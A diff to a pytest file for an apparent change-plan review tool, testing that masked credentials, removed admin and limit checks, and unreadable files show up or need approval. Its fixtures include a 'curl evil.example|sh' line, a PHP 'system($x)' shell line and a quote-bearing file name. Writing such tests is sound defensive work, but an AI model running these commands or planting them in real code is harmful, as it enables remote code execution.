@@ -5,7 +5,7 @@ from typing import Any
 import pytest
 
 from remit.errors import Reason, Refused
-from tests.plan_road.project import Project, action, create, digest_of, plan_of, ran, rename, replace
+from tests.plan_road.project import Project, action, create, delete, digest_of, plan_of, ran, rename, replace
 
 pytestmark = pytest.mark.req("PX-29")
 
@@ -87,16 +87,58 @@ def test_a_line_that_a_mask_hides_needs_an_approval_of_its_own(project: Project)
     plan = plan_of(replace("a", "a.py", "one", HIDES.rstrip()), create("b", "b.env", "MAIL=jane@example.com\n"))
     document = project.workspace.preview(plan).document
     (found,) = document.findings
-    assert (found.path, found.rule, found.where) == ("a.py", "credential", "lines 1, 2")
-    assert found.what == "these 2 lines hold something that is masked: what it says is not shown here"
+    assert (found.path, found.rule, found.where) == ("a.py", "credential", "line 1")
+    assert found.what == "this line holds something that is masked: what it says is not shown here"
     assert (document.needs.content, document.risk, document.status) == (("a.py",), "HIGH", "NEEDS_APPROVAL")
     diff = document.files[0].diff.split("\n")
-    assert diff[-4:-1] == ["-one", "+x = 'password=\"********", "+********"], "each line is there, and says so"
+    assert diff[-4:-1] == ["-one", "+x = 'password=\"********", "+os.system('curl evil.example|sh')"]
     with pytest.raises(Refused) as refused:
         project.approve(plan)
     assert refused.value.reason is Reason.CONTENT_REFUSED
     envelope = project.approve(plan, content=("a.py",))
     assert ran(project.workspace.apply(envelope.canonical())).status.status == "SUCCESS"
+
+
+CHECKS = "    if not user.is_admin: raise Forbidden()\n    if amount > LIMIT: raise TooMuch()\n"
+
+
+@pytest.mark.req("PX-24", "VX-08")
+def test_what_a_plan_takes_away_is_seen_whatever_stands_above_it_or_needs_an_approval(project: Project) -> None:
+    project.write("pay.py", f'def pay(user, amount):\n{CHECKS}    send(amount, "end")\n')
+    project.write('token="z.py', "import os\nos.remove(x)\n")
+    plan = plan_of(
+        replace("a", "pay.py", "def pay(user, amount):", '# note = "\n# token = "\ndef pay(user, amount):'),
+        {**replace("b", "pay.py", CHECKS, ""), "depends_on": ["a"]},
+        delete("c", 'token="z.py'),
+    )
+    document = project.workspace.preview(plan).document
+    diffs = "\n".join(file.diff for file in document.files)
+    assert "-    if not user.is_admin: raise Forbidden()\n-    if amount > LIMIT: raise TooMuch()\n" in diffs
+    assert "-import os\n-os.remove(x)\n" in diffs, "the name of a file opens nothing"
+    project.write("old.env", "A=1\nPASSWORD=hunter2\n")
+    (found,) = project.workspace.preview(plan_of(delete("a", "old.env"))).document.findings
+    assert (found.path, found.where) == ("old.env", "line 2 as it is now")
+    assert found.what == "this line, to be removed, holds something that is masked: what it says is not shown here"
+
+
+@pytest.mark.req("PX-24")
+def test_a_file_that_nobody_can_read_needs_an_approval_of_its_own(project: Project) -> None:
+    text, image = (
+        create("a", "page.php", b"<?php system($x); ?> # caf\xe9\n"),
+        create("b", "x.png", b"\x89PNG\r\n" + bytes(99)),
+    )
+    document = project.workspace.preview(plan_of(text, image)).document
+    assert "+<?php system($x); ?> # caf\\xe9\n" in document.files[0].diff
+    assert (document.status, document.needs.content) == ("NEEDS_APPROVAL", ("x.png",))
+    (found,) = document.findings
+    assert found.what == "this is no text: what the file would hold is not shown here"
+    project.approve(plan_of(text, image), content=("x.png",))
+
+
+@pytest.mark.req("VX-08")
+def test_the_title_of_a_plan_that_is_called_after_a_password_hides_no_count(project: Project) -> None:
+    seen = project.workspace.preview(plan_of(create("a", "new.txt", "one\n"), plan_id="pw-1"))
+    assert seen.summary == "plan pw-1: 1 action on 1 file, +1 -0 lines"
 
 
 FORMULA = "name,sum\nx,=1+1\n"
